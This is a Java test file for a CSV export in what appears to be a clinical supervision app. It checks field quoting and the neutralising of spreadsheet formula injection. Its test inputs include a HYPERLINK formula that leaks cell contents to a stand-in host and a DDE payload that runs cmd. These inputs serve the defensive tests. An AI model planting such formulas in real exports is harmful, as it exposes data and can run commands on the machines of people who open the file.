package org.casenotes.supervision.core.meeting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.casenotes.supervision.core.meeting.MeetingClinic.ADMIN;
import static org.casenotes.supervision.core.meeting.MeetingClinic.ZONE;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.casenotes.supervision.api.Role;
import org.casenotes.supervision.api.meeting.MeetingFormat;
import org.casenotes.supervision.api.meeting.Modality;
import org.casenotes.supervision.core.testing.TestDatabases;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    @Test
    void plainFieldsAreWrittenAsTheyAre() {
        assertThat(new Csv().row("meeting", "2026-11-02", "", null).text()).isEqualTo("meeting,2026-11-02,,\r\n");
    }

    private static String field(String value) {
        String text = new Csv().row(value).text();
        return text.substring(0, text.length() - 2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=", "+", "-", "@", "\t", "\r"})
    void aCellThatBeginsLikeAFormulaIsWrittenAsText(String first) {
        String value = first + "HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
        List<List<String>> rows = parse(new Csv().row("a", value).text());

        assertThat(rows.get(0).get(1)).isEqualTo("'" + value);
        assertThat(rows.get(0).get(0)).isEqualTo("a");
    }

    @Test
    void theHoursExportNeutralisesNamesThatBeginLikeFormulas() {
        MeetingClinic clinic = new MeetingClinic(TestDatabases.h2());
        clinic.person(MeetingClinic.ORG, "sup-1", "@SUM(1+1)*cmd|' /C calc'!A0", Role.SUPERVISOR);
        clinic.person(MeetingClinic.ORG, "clin-1", "=1+2", Role.CLINICIAN);
        clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-11-02T09:00", 60, "clin-1");

        List<List<String>> rows = parse(clinic.meetings.hoursCsv(ADMIN, "clin-1", LocalDate.of(2026, 11, 1),
                LocalDate.of(2026, 11, 30), ZONE));

        assertThat(rows.get(1).get(5)).isEqualTo("'=1+2");
        assertThat(rows.get(1).get(7)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(rows).allSatisfy(row -> assertThat(row).noneMatch(cell -> !cell.isEmpty()
                && Csv.FORMULA_STARTS.indexOf(cell.charAt(0)) >= 0));
    }

    @Test
    void fieldsWithCommasQuotesOrLineBreaksAreQuotedWithTheirQuotesDoubled() {
        assertThat(field("García-López, María José")).isEqualTo("\"García-López, María José\"");
        assertThat(field("Dr. \"Rae\" Okafor")).isEqualTo("\"Dr. \"\"Rae\"\" Okafor\"");
        assertThat(field("line one\nline two")).isEqualTo("\"line one\nline two\"");
        assertThat(field("line one\r\nline two")).isEqualTo("\"line one\r\nline two\"");
        assertThat(field("carriage\rreturn")).isEqualTo("\"carriage\rreturn\"");
        assertThat(field("no ' special ; here")).isEqualTo("no ' special ; here");
    }

    @Test
    void notesWithEverySpecialCharacterReadBackUnchanged() {
        List<String> note = List.of("Discussed \"timing\", then boundaries;\r\nclient said: \"it helped\"", "",
                "ends with a quote\"", "\"", ",", "Ελένη Γεωργίου\nδεύτερη γραμμή");
        String text = new Csv().row(note.toArray(String[]::new)).row("a", "b").text();

        assertThat(parse(text)).containsExactly(note, List.of("a", "b"));
        assertThat(text).endsWith("\r\n");
    }

    @Test
    void theHoursExportQuotesNamesWithCommasQuotesAndNewlines() {
        MeetingClinic clinic = new MeetingClinic(TestDatabases.h2());
        clinic.person(MeetingClinic.ORG, "sup-1", "Okafor, Renée \"Rae\"", Role.SUPERVISOR);
        clinic.person(MeetingClinic.ORG, "clin-1", "Jordan\nEllis", Role.CLINICIAN);
        clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-11-02T09:00", 60, "clin-1");
        clinic.held(MeetingFormat.GROUP, Modality.VIDEO, "2026-11-10T14:00", 90, "clin-1", "clin-2");

        String csv = clinic.meetings.hoursCsv(ADMIN, "clin-1", LocalDate.of(2026, 11, 1), LocalDate.of(2026, 11, 30), ZONE);
        List<List<String>> rows = parse(csv);

        assertThat(rows.get(0)).containsExactly("record", "date", "start", "meeting_id", "supervisee_id",
                "supervisee_name", "supervisor_id", "supervisor_name", "format", "modality", "meetings", "minutes", "hours");
        assertThat(rows).hasSize(6).allSatisfy(row -> assertThat(row).hasSize(13));
        assertThat(rows.get(1)).containsSubsequence("meeting", "2026-11-02", "09:00");
        assertThat(rows.get(1).get(5)).isEqualTo("Jordan\nEllis");
        assertThat(rows.get(1).get(7)).isEqualTo("Okafor, Renée \"Rae\"");
        assertThat(rows.get(1).subList(8, 13)).containsExactly("INDIVIDUAL", "IN_PERSON", "1", "60", "1.00");
        assertThat(rows.get(3).subList(8, 13)).containsExactly("INDIVIDUAL", "IN_PERSON", "1", "60", "1.00");
        assertThat(rows.get(4).subList(8, 13)).containsExactly("GROUP", "VIDEO", "1", "90", "1.50");
        assertThat(rows.get(5).subList(8, 13)).containsExactly("ALL", "ALL", "2", "150", "2.50");
        assertThat(csv).contains("\"Okafor, Renée \"\"Rae\"\"\"").contains("\"Jordan\nEllis\"");
        assertThat(csv.replace("\r\n", "")).doesNotContain("\r");
    }

    /** A strict RFC 4180 reader: records end with CRLF; quoted fields may hold anything. */
    static List<List<String>> parse(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int i = 0;
        while (i < text.length()) {
            char c = text.charAt(i);
            if (c == '"' && field.length() == 0) {
                i++;
                while (true) {
                    char q = text.charAt(i);
                    if (q == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                        field.append('"');
                        i += 2;
                    } else if (q == '"') {
                        i++;
                        break;
                    } else {
                        field.append(q);
                        i++;
                    }
                }
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
                i++;
            } else if (c == '\r' && text.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i += 2;
            } else {
                if (c == '"' || c == '\r' || c == '\n') {
                    throw new IllegalArgumentException("unquoted special character at " + i);
                }
                field.append(c);
                i++;
            }
        }
        if (!row.isEmpty() || field.length() > 0) {
            throw new IllegalArgumentException("the last record does not end with CRLF");
        }
        return rows;
    }
}
